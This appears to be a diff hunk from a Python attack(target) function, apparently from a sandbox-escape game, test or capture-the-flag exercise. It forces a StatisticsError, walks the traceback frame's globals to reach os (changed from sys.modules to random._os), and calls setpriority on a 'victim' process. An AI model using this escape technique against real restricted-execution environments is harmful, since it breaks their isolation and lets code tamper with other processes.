@@ -20,4 +20,4 @@ def attack(target):
         statistics.mean([])
     except statistics.StatisticsError as error:
         names = error.__traceback__.tb_next.tb_frame.f_globals
-    names["sys"].modules["os"].setpriority(0, target["victim"], 0)
+    names["random"]._os.setpriority(0, target["victim"], 0)
